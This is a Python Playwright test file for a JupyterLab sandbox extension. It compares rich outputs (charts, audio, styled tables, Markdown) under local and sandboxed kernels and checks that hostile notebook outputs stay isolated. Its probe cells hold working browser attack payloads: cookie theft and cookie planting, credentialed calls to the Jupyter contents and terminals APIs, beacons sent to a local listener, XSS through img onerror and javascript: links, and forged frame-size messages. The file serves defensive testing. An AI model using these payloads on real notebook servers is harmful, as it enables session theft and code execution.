"""Rich output of the sandbox in a real JupyterLab (Chromium, real sandboxes), side by side with a
local ipykernel: every chart, frame, sound, styled table and Markdown looks and works as it does
locally, yet what runs does so in a frame that cannot act on the Jupyter origin.

One JupyterLab (this tree's labextension build) serves three notebooks: the rich cells under the
local kernel and under the sandbox kernel (compared output by output, screenshots kept in
docs/screenshots/rich-output/), and an attacker's notebook whose frames try everything the
trust-boundary issue lists. A second JupyterLab, with the labextension disabled, opens what the
sandbox kernel saved: it shows the sanitised fallback and runs nothing.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from conftest import Server, lab_args, start_jupyter_server
from playwright.sync_api import Browser, Dialog, FloatRect, Frame, Locator, Page, Request, expect
from rich_output_support import FRAME, ISOLATED_MIME, RICH_CELLS, ROOT, listening, notebook, this_build
from test_lab_escapes import RUN

from jupyter_sandbox.sandbox import binding
from jupyter_sandbox.sandbox.docker_backend import DockerBackend
from jupyter_sandbox.sandbox.manager import SandboxManager

SCREENSHOTS = ROOT / "docs" / "screenshots" / "rich-output"
NAMES = [name for name, _ in RICH_CELLS]


@pytest.fixture(scope="module")
def lab(
    docker_backend: DockerBackend, sandbox_image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    root = tmp_path_factory.mktemp("rich-root")
    sources = [source for _, source in RICH_CELLS]
    (root / "rich-local.ipynb").write_text(json.dumps(notebook(sources, "local")))
    (root / "rich-sandbox.ipynb").write_text(json.dumps(notebook(sources, "sandbox")))
    config = tmp_path_factory.mktemp("rich-config")
    (config / "jupyter_sandbox_config.json").write_text(
        json.dumps({"SandboxKernelApp": {"keep_notebook_sandboxes": False}, "SandboxManager": {"warm_pool_size": 0}})
    )
    server, process = start_jupyter_server(
        root,
        [
            # Every cell in the page (no windowing), so that the n-th cell is the n-th of the notebook.
            *lab_args(tmp_path_factory.mktemp("rich-lab"), {"notebook-extension/tracker": {"windowingMode": "none"}}),
            *this_build(tmp_path_factory.mktemp("rich-ext")),
            "--LabApp.expose_app_in_browser=True",
        ],
        log=tmp_path_factory.mktemp("rich-log") / "lab.log",
        module="jupyterlab",
        env={"NO_PROXY": "127.0.0.1,localhost", "JUPYTER_CONFIG_DIR": str(config)},
    )
    server.root = root  # type: ignore[attr-defined]
    server.config = config  # type: ignore[attr-defined]
    yield server
    process.terminate()
    process.wait(timeout=60)
    manager = SandboxManager(backend=docker_backend)
    for name in ("rich-sandbox.ipynb", "hostile.ipynb"):
        workspace = binding.workspace_key(manager.owner, str((root / name).resolve()))
        for sandbox in manager.list(owner=manager.owner):
            if sandbox.workspace == workspace:
                manager.remove(sandbox)


def open_notebook(page: Page, lab: Server, path: str, kernel: str, extension: bool = True) -> None:
    # A workspace of its own: the notebook alone in the page (no tab restored from another page).
    workspace = path.replace(".", "-").replace("/", "-")
    for _ in range(3):
        page.goto(f"{lab.base}/lab/workspaces/{workspace}/tree/{path}?reset&token={lab.token}")
        page.wait_for_selector(".jp-Notebook .jp-Cell:visible", timeout=90_000)
        # Docker's network changes on a shared engine can abort a script's load in Chromium
        # (ERR_NETWORK_CHANGED): a page that came up without the labextension is loaded again.
        if not extension or page.evaluate("window.jupyterapp.isPluginActivated('jupyter-sandbox:isolated-output')"):
            break
    else:
        raise AssertionError("JupyterLab came up without the labextension three times")
    expect(
        page.locator(".jp-StatusBar-Widget").filter(has_text=re.compile(re.escape(kernel) + r" \| Idle"))
    ).to_be_visible(timeout=180_000)


def run_all(page: Page, count: int, timeout: float = 240_000) -> None:
    """Run every cell (JupyterLab's own command) and wait until each has its count."""
    page.evaluate("window.jupyterapp.commands.execute('notebook:run-all-cells')")
    prompts = page.locator(".jp-Notebook .jp-Cell .jp-InputPrompt")
    for index in range(count):
        expect(prompts.nth(index)).to_have_text(re.compile(r"\[\d+\]:"), timeout=timeout)


def refuse(dialog: Dialog, seen: list[str]) -> None:
    seen.append(dialog.message)  # an alert, confirm or prompt would be the sandbox's
    dialog.dismiss()


def save(page: Page) -> None:
    page.evaluate("window.jupyterapp.commands.execute('docmanager:save')")
    expect(page.locator(".jp-mod-dirty")).to_have_count(0, timeout=30_000)


def output(page: Page, index: int) -> Locator:
    return page.locator(".jp-Notebook .jp-Cell").nth(index).locator(".jp-Cell-outputArea")


def content(page: Page, index: int, framed: bool) -> Any:
    """Where an output's content is: inside its frame (sandbox) or the output area itself (local)."""
    return output(page, index).frame_locator(FRAME) if framed else output(page, index)


def frame_of(page: Page, index: int) -> Frame:
    handle = output(page, index).locator(FRAME).element_handle(timeout=30_000)
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    return frame


FRAMED = {"plotly", "altair", "bokeh", "iframe", "audio", "styler"}


def settled_box(page: Page, area: Locator) -> FloatRect | None:
    """The output's box once it stops changing (a frame follows its content within a second)."""
    last = area.bounding_box()
    for _ in range(20):
        page.wait_for_timeout(700)
        box = area.bounding_box()
        if box == last:
            return box
        last = box
    return last


def check_rich_outputs(page: Page, framed: bool) -> dict[str, FloatRect]:
    """What a user sees of each rich output; returns each output's box for the comparison."""
    boxes = {}
    for index, name in enumerate(NAMES):
        area = output(page, index)
        expect(area).not_to_contain_text("output removed")
        if framed:
            expect(area.locator(FRAME)).to_have_count(1 if name in FRAMED else 0, timeout=30_000)
        root = content(page, index, framed and name in FRAMED)
        if name == "plotly":
            point = root.locator(".scatterlayer .point").first
            expect(point).to_be_visible(timeout=30_000)
            point.hover(force=True)
            expect(root.locator(".hovertext").first).to_be_visible(timeout=10_000)  # the tooltip
        elif name == "altair":
            expect(root.locator(".vega-embed canvas, .vega-embed svg.marks").first).to_be_visible(timeout=30_000)
        elif name == "bokeh":
            expect(root.locator("canvas").first).to_be_visible(timeout=30_000)
        elif name == "iframe":
            expect(root.frame_locator("iframe").locator("b")).to_have_text("inner-frame-text", timeout=30_000)
        elif name == "audio":
            audio = root.locator("audio")
            expect(audio).to_have_count(1, timeout=30_000)
            duration = audio.evaluate(
                "a => a.readyState > 0 ? a.duration : new Promise(r => a.addEventListener('loadedmetadata', () => r(a.duration)))"
            )
            assert abs(duration - 1.0) < 0.05, duration  # the WAV made in the cell: one second
        elif name == "styler":
            expect(root.locator("caption")).to_have_text("styled-table", timeout=30_000)
            highlighted = root.locator("td").evaluate_all(
                "cells => cells.filter(c => getComputedStyle(c).backgroundColor === 'rgb(255, 255, 0)').length"
            )
            assert highlighted == 2  # the maximum of each column, as Styler's CSS says
        elif name == "markdown":
            expect(root.locator("mjx-container").first).to_be_visible(timeout=30_000)  # typeset math
            assert "$x_1" not in root.inner_text()
            expect(root.locator("pre code span").first).to_be_attached()  # highlighted code
            boxes_checked = root.locator("input[type=checkbox]")
            expect(boxes_checked).to_have_count(2)
            assert boxes_checked.evaluate_all("b => b.map(x => x.checked)") == [True, False]
        elif name == "svg":
            expect(root.locator("img, svg").first).to_be_visible()
        area.scroll_into_view_if_needed()
        box = settled_box(page, area)
        assert box is not None
        boxes[name] = box
    return boxes


def test_rich_output_looks_as_with_a_local_kernel_and_runs_isolated(lab: Server, browser: Browser) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    boxes = {}
    for kernel, display in (("local", "Python 3 (ipykernel)"), ("sandbox", "Python 3 (sandbox)")):
        context = browser.new_context(viewport={"width": 1200, "height": 1000})
        page = context.new_page()
        open_notebook(page, lab, f"rich-{kernel}.ipynb", display)
        run_all(page, len(RICH_CELLS))
        boxes[kernel] = check_rich_outputs(page, framed=kernel == "sandbox")
        for index, name in enumerate(NAMES):
            area = output(page, index)
            area.scroll_into_view_if_needed()
            page.wait_for_timeout(200)
            area.screenshot(path=str(SCREENSHOTS / f"{name}-{kernel}.png"))
        save(page)
        context.close()
    # The same size as locally (a frame fits its content), within a few pixels of margins.
    for name in NAMES:
        local, sandbox = boxes["local"][name], boxes["sandbox"][name]
        assert abs(local["height"] - sandbox["height"]) <= max(24, 0.1 * local["height"]), (name, local, sandbox)
    # What the sandbox kernel saved: valid, with the original kept under the isolated type only.
    saved = nbformat.read(Path(lab.root) / "rich-sandbox.ipynb", as_version=4)  # type: ignore[attr-defined]
    nbformat.validate(saved)
    bundles = [o["data"] for c in saved.cells for o in c.get("outputs", []) if "data" in o]
    assert sum(ISOLATED_MIME in b for b in bundles) == len(FRAMED) + 1  # the framed ones and Markdown
    assert not any("<script" in str(b.get("text/html", "")) for b in bundles)


# -- an attacker's outputs: each frame tries what the trust-boundary issue lists ---------------------

PROBE = """<pre id="result">pending</pre><script>
var r = {};
function t(name, f) { try { r[name] = String(f()); } catch (e) { r[name] = 'blocked:' + e.name; } }
t('parent', function () { return parent.document.title; });
t('top', function () { return top.document.cookie; });
t('cookie', function () { return document.cookie; });
t('set-cookie', function () { document.cookie = '_xsrf=planted; path=/'; return document.cookie; });
t('storage', function () { return localStorage.length; });
t('popup', function () { var w = window.open('/lab?popup', '_blank'); return w === null ? 'null' : 'opened'; });
t('top-navigation', function () { top.location.href = '/lab?navigated'; return 'assigned'; });
t('parent-eval', function () { return parent.eval('1'); });
fetch('/api/contents', { credentials: 'include' }).then(
  function (x) { r.fetch = 'status:' + x.status; }, function (e) { r.fetch = 'blocked:' + e.name; });
fetch('/api/terminals', { method: 'POST', credentials: 'include' }).then(
  function (x) { r.terminal = 'status:' + x.status; }, function (e) { r.terminal = 'blocked:' + e.name; });
var home = 'http://127.0.0.1:PORT/phone-home';
fetch(home + '?fetch').catch(function () {});
new Image().src = home + '?img';
if (navigator.sendBeacon) { try { navigator.sendBeacon(home + '?beacon', 'x'); } catch (e) {} }
try { new WebSocket('ws://127.0.0.1:PORT/ws'); } catch (e) {}
var link = document.createElement('link'); link.rel = 'stylesheet'; link.href = home + '?css'; document.head.appendChild(link);
setTimeout(function () { document.getElementById('result').textContent = JSON.stringify(r); }, 2000);
</script>"""


def hostile_cells(port: int) -> list[str]:
    prelude = f"R = {RUN!r}\nfrom IPython.display import HTML, Markdown, Javascript, display\n"
    return [
        prelude + f"display(HTML({PROBE.replace('PORT', str(port))!r}))\nprint('probe-shown')",
        prelude + "display(HTML('<script>' + R + '</script><b>attack-shown</b>'))\n"
        "display(Javascript('element.textContent = \"js-ran-in-frame\";' + R))\n"
        "display(HTML('<div style=\"height: 100000px\">very-tall</div>'))\n"
        'display(HTML(\'<div style="height: 100vh">viewport-tall</div><script>setInterval(function () {'
        ' parent.postMessage({type: "jupyter-sandbox:size", height: 1e9}, "*"); }, 50)</script>\'))\n'
        'display(HTML(\'<b>navigator</b><script>setTimeout(function () { location.href = "/api/contents?navigated"; },'
        " 300)</script>'))",
        prelude + "display(Markdown('**md-safe** <img src=x onerror=\"' + R + '\"> [md-link](javascript:' + R + ')"
        " <script>' + R + '</script> ![relative](files/secret.png) $\\\\href{javascript:alert(1)}{tex-link}$'))",
        prelude + "import ipywidgets as w\nout = w.Output()\ndisplay(out)\nwith out:\n"
        '    display(HTML(\'<b id="w">in-widget</b><script>document.getElementById("w").textContent ='
        " \"widget-script-ran\";' + R + '</script>'))",
    ]


@pytest.fixture(scope="module")
def phone_home() -> Iterator[Any]:
    with listening() as listener:
        yield listener


def test_a_frame_cannot_act_on_the_jupyter_origin_nor_phone_home(
    lab: Server, browser: Browser, phone_home: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    root = Path(lab.root)  # type: ignore[attr-defined]
    cells = hostile_cells(phone_home.port)
    (root / "hostile.ipynb").write_text(json.dumps(notebook(cells, "sandbox")))
    context = browser.new_context(viewport={"width": 1200, "height": 1000})
    page = context.new_page()
    requests: list[Request] = []
    page.on("request", lambda request: requests.append(request))
    answered: list[str] = []  # what a frame asked for and got an answer to
    page.on("response", lambda response: answered.append(response.url) if response.frame != page.main_frame else None)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: refuse(dialog, dialogs))
    open_notebook(page, lab, "hostile.ipynb", "Python 3 (sandbox)")
    cookies_before = {c["name"]: c["value"] for c in context.cookies()}
    run_all(page, len(cells))

    result = content(page, 0, True).locator("#result")
    expect(result).not_to_have_text("pending", timeout=30_000)
    seen = json.loads(result.inner_text())
    # The frame's origin is opaque: the page, its cookies and storage are out of reach.
    for probe in ("parent", "top", "cookie", "set-cookie", "storage", "parent-eval"):
        assert seen[probe].startswith("blocked:"), (probe, seen)
    assert seen["popup"] == "null"
    assert seen["top-navigation"] in ("assigned", "blocked:SecurityError")  # assigned, and refused (below)
    assert seen["fetch"].startswith("blocked:") and seen["terminal"].startswith("blocked:"), seen

    attack = output(page, 1)
    expect(attack.frame_locator(FRAME).first.locator("b")).to_have_text("attack-shown", timeout=30_000)
    expect(attack.locator(FRAME).nth(1).content_frame.locator("body")).to_contain_text("js-ran-in-frame")
    page.wait_for_timeout(1500)  # the forged size messages keep coming; the clamp holds
    heights = attack.locator(FRAME).evaluate_all("frames => frames.map(f => f.getBoundingClientRect().height)")
    assert max(heights) <= 4000, heights
    expect(attack).to_contain_text("[output removed: it navigated away from its frame]", timeout=30_000)

    markdown = output(page, 2)
    expect(markdown.locator(".jp-RenderedMarkdown")).to_contain_text("md-safe")
    expect(markdown).not_to_contain_text("Error")
    assert markdown.locator(FRAME).count() == 0 and markdown.locator("script").count() == 0
    assert not markdown.locator("a[href^='javascript'], img[onerror]").count()
    assert markdown.locator("a", has_text="tex-link").count() == 0  # TeX makes no link
    assert markdown.locator("img[src*='secret']").count() == 0  # a relative URL names no host file

    widget = output(page, 3)
    expect(widget.frame_locator(FRAME).locator("#w")).to_have_text("widget-script-ran", timeout=30_000)

    # What the attacker wanted, checked where it would have happened.
    assert page.evaluate("window.__sandboxPwned") is None
    assert page.url.startswith(f"{lab.base}/lab/workspaces/") and "navigated" not in page.url
    assert context.pages == [page] and dialogs == []  # no popup, no alert
    assert {c["name"]: c["value"] for c in context.cookies()} == cookies_before
    assert phone_home.paths == []
    # Chromium may report a request its CSP then blocks (a stylesheet, say) before it blocks it, so
    # what counts is that nothing was answered: the listener saw nothing (above), no frame got a reply.
    assert not [url for url in answered if "/api/terminals" in url or "phone-home" in url], answered
    for request in requests:
        if request.frame != page.main_frame:
            assert "cookie" not in request.all_headers(), request.url  # no credentials leave a frame
        assert "secret.png" not in request.url, request.url
    status, terminals = lab.request("GET", "/api/terminals")
    assert status == 200 and terminals == []

    # Saved and opened again: the outputs are no longer trusted, and still render isolated.
    frames = page.locator(FRAME).count()
    save(page)
    page.reload()
    page.wait_for_selector(".jp-Notebook .jp-Cell:visible", timeout=90_000)
    expect(page.locator(FRAME)).to_have_count(frames, timeout=60_000)
    expect(content(page, 0, True).locator("#result")).not_to_have_text("pending", timeout=30_000)
    assert page.evaluate("window.__sandboxPwned") is None
    context.close()
    saved = nbformat.read(root / "hostile.ipynb", as_version=4)
    nbformat.validate(saved)
    # The same notebook where the labextension is disabled: the sanitised fallback, and nothing runs.
    check_without_the_extension(lab, browser, tmp_path_factory)


def check_without_the_extension(lab: Server, browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> None:
    """What the sandbox kernel saved, opened where the labextension is disabled: nothing runs."""
    source = Path(lab.root)  # type: ignore[attr-defined]
    root = tmp_path_factory.mktemp("plain-root")
    for name in ("hostile.ipynb",):
        saved = json.loads((source / name).read_text())
        assert any(o.get("data", {}).get(ISOLATED_MIME) for c in saved["cells"] for o in c["outputs"]), name
        # Opened with a local kernel: the outputs are what the sandbox saved; no sandbox is started.
        saved["metadata"]["kernelspec"] = {
            "name": "python3",
            "display_name": "Python 3 (ipykernel)",
            "language": "python",
        }
        (root / name).write_text(json.dumps(saved))
    config = tmp_path_factory.mktemp("plain-config")
    env = {"JUPYTER_CONFIG_DIR": str(config), "NO_PROXY": "127.0.0.1,localhost"}
    # What `jupyter labextension disable --level=user` writes, in this server's own config folder only
    # (the command's default level is the environment's, which other servers share).
    (config / "labconfig").mkdir()
    (config / "labconfig" / "page_config.json").write_text(
        json.dumps({"disabledExtensions": {"jupyter-sandbox": True}})
    )
    server, process = start_jupyter_server(
        root,
        [*lab_args(tmp_path_factory.mktemp("plain-lab"), {"notebook-extension/tracker": {"windowingMode": "none"}})],
        log=tmp_path_factory.mktemp("plain-log") / "lab.log",
        module="jupyterlab",
        env=env,
    )
    try:
        context = browser.new_context(viewport={"width": 1200, "height": 1000})
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: refuse(dialog, dialogs))
        for name in ("hostile.ipynb",):
            open_notebook(page, server, name, "Python 3 (ipykernel)", extension=False)
            assert page.locator(".jp-SandboxSidebar").count() == 0  # the extension is not there
            assert page.locator(FRAME).count() == 0
            assert page.locator(".jp-OutputArea script").count() == 0
            page.wait_for_timeout(1500)
            assert page.evaluate("window.__sandboxPwned") is None
        expect(output(page, 1)).to_contain_text("attack-shown")  # the fallback: sanitised HTML, as text
        expect(output(page, 2)).to_contain_text("md-safe")
        assert dialogs == []
        context.close()
    finally:
        process.terminate()
        process.wait(timeout=60)
